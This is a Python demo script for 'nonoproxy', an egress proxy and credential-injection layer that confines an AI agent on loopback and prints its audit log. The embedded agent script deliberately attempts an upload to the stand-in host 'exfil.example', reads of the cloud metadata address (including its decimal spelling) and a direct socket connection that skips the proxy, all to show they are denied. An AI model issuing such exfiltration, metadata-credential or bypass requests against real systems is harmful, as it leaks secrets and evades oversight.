#!/usr/bin/env python3
"""A self-contained demonstration of nonoproxy on loopback.

A local HTTPS server (certificate from a test CA made with openssl) stands in for an API. The
agent is a shell script run by nonoproxy-run with `--allow localhost`: it reaches the allowed
server through HTTPS_PROXY, is refused a host outside the allowlist and the cloud metadata
address, and a client without the session token is refused too. Then it calls the API through
a reverse route: it holds only a phantom token, and nonoproxy injects the real key (taken from
an environment variable of nonoproxy-run that the agent never sees). The audit events are
printed as a table at the end. Nothing leaves the machine.
"""
import argparse
import json
import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "integration"))

from npe2e import Certs, UpstreamHTTPServer  # noqa: E402  (path set above)

AGENT = r"""
unset NO_PROXY no_proxy   # the demo API lives on localhost: send it through the proxy too
step() { printf '\n== %s\n$ %s\n' "$1" "$2"; }
step "1. allowed: the agent calls the (local) API over HTTPS through the proxy" \
     "curl --cacert ca.pem https://localhost:$API_PORT/v1/models"
curl -sS --cacert "$CA" "https://localhost:$API_PORT/v1/models"
step "2. denied: a host that is not on the allowlist" "curl https://exfil.example/upload"
curl -sS -o /dev/null "https://exfil.example/upload" 2>&1 | sed 's/^/   /'
step "3. denied: the cloud metadata address, even spelled as a number" \
     "curl -p http://169.254.169.254/  and  curl -p http://2852039166/"
curl -sS -p -o /dev/null "http://169.254.169.254/latest/meta-data/" 2>&1 | sed 's/^/   /'
curl -sS -p -o /dev/null "http://2852039166/latest/meta-data/" 2>&1 | sed 's/^/   /'
step "4. denied: a process that does not hold the session token" \
     "curl --proxy http://127.0.0.1:PORT https://localhost:$API_PORT/"
curl -sS -o /dev/null --proxy "http://127.0.0.1:${HTTPS_PROXY##*:}" --cacert "$CA" \
     "https://localhost:$API_PORT/" 2>&1 | sed 's/^/   /'
step "5. credential route: the agent holds only a phantom; the proxy injects the real key" \
     'curl $API_BASE_URL/v1/models -H "Authorization: Bearer $API_KEY"'
echo "   the agent's API_KEY is ${API_KEY%${API_KEY#????????}}... (the session token, not the key)"
echo "   DEMO_API_KEY in the agent's environment: ${DEMO_API_KEY:-<not set>}"
curl -sS --noproxy '*' "$API_BASE_URL/v1/models" -H "Authorization: Bearer $API_KEY"
echo
step "6. confined (--sandbox auto, Landlock): the agent ignores the proxy and connects directly" \
     "python3: socket.create_connection(('127.0.0.1', API_PORT))"
python3 -c "
import socket, sys
try:
    socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=5).close()
    print('   connected directly: this kernel cannot confine the child (see the notice above)')
except OSError as e:
    print('   refused by the kernel:', e)
" "$API_PORT"
echo
exit 0
"""

DEMO_KEY = "sk-demo-0123456789abcdef"


def table(events):
    """Render audit events as an aligned text table."""
    rows = [("decision", "mode", "target", "status", "category / reason", "up/down bytes")]
    for ev in events:
        target = ev.get("target") or "-"
        if ev.get("port") is not None:
            target = "%s:%s" % (target, ev["port"])
        if ev.get("route_id"):
            target = "/%s -> %s" % (ev["route_id"], target)
        if ev.get("event") == "close":
            what = "closed" + (" (%s)" % ev["reason"] if ev.get("reason") else "")
            size = "%s/%s" % (ev.get("bytes_up"), ev.get("bytes_down"))
            decision = "  close"
        else:
            what = ev.get("denial_category") or ""
            if ev.get("reason"):
                what = (what + ": " if what else "") + ev["reason"]
            size = ""
            decision = ev.get("decision", "?")
        rows.append((decision, ev.get("mode", "?"), target,
                     str(ev.get("status") or ""), what[:70], size))
    widths = [max(len(r[i]) for r in rows) for i in range(len(rows[0]))]
    lines = []
    for n, r in enumerate(rows):
        lines.append("  ".join(c.ljust(widths[i]) for i, c in enumerate(r)).rstrip())
        if n == 0:
            lines.append("  ".join("-" * w for w in widths))
    return "\n".join(lines)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--bin", required=True, help="path to nonoproxy-run")
    args = ap.parse_args()
    sys.stdout.reconfigure(line_buffering=True)

    certs = Certs.get()
    api = UpstreamHTTPServer(tls=True)
    llm = UpstreamHTTPServer(tls=True)  # the route's upstream: CONNECT to it would be refused
    with tempfile.TemporaryDirectory(prefix="nonoproxy-demo-") as tmp:
        audit = os.path.join(tmp, "audit.jsonl")
        env = dict(os.environ, API_PORT=str(api.port), CA=certs.ca_cert, DEMO_API_KEY=DEMO_KEY)
        route = "api=https://localhost:%d,credential=env://DEMO_API_KEY,env-var=API_KEY" % llm.port
        cmd = [args.bin, "--allow", "localhost", "--audit-log", audit, "--connect-timeout", "2",
               "--ca-file", certs.ca_cert, "--route", route, "--", "sh", "-c", AGENT]
        print("$ DEMO_API_KEY=%s... nonoproxy-run --allow localhost --audit-log audit.jsonl \\\n"
              "    --ca-file ca.pem --route %s -- sh agent.sh"
              % (DEMO_KEY[:8], route.replace(str(llm.port), "PORT")))
        sys.stdout.flush()
        proc = subprocess.run(cmd, env=env, timeout=120, check=False)
        injected = [r for r in llm.requests
                    if ("Authorization", "Bearer " + DEMO_KEY) in r["headers"]]
        print("   the API received %d request(s) with Authorization: Bearer %s... "
              "(the real key, injected)" % (len(injected), DEMO_KEY[:8]))
        with open(audit, encoding="utf-8") as f:
            events = [json.loads(line) for line in f if line.strip()]
        print("\nAudit log (%d events, from --audit-log):\n" % len(events))
        print(table(events))
        api.close()
        llm.close()
    Certs.cleanup()
    ok = proc.returncode == 0 and any(e.get("decision") == "allow" for e in events) and \
        sum(1 for e in events if e.get("decision") == "deny") >= 4 and len(injected) == 1 and \
        any(e.get("mode") == "reverse" and e.get("status") == 200 for e in events)
    print("\ndemo %s" % ("finished" if ok else "FAILED (exit %d)" % proc.returncode))
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
